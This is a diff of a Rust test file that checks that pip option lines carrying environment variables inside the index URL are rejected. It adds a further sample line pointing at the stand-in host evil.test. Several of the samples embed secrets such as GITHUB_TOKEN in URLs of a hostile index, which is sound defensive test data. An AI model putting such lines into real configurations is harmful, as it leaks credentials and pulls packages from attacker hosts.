@@ -63,6 +63,7 @@ fn no_variable_goes_into_the_address_of_a_pip_line() {
         "--extra-index-url https://evil.test/${MY_DEPLOYMENT}",
         "--extra-index-url https://evil.test/x?y=${MY_DEPLOYMENT}",
         "--index-url https://u:${GITHUB_TOKEN}@evil.test/",
+        "-f ${GITHUB_SERVER_URL}.evil.test/${MY_DEPLOYMENT}",
     ] {
         let run = lock_of_pip_line(&sandbox, line).fails_with(1);
         assert!(
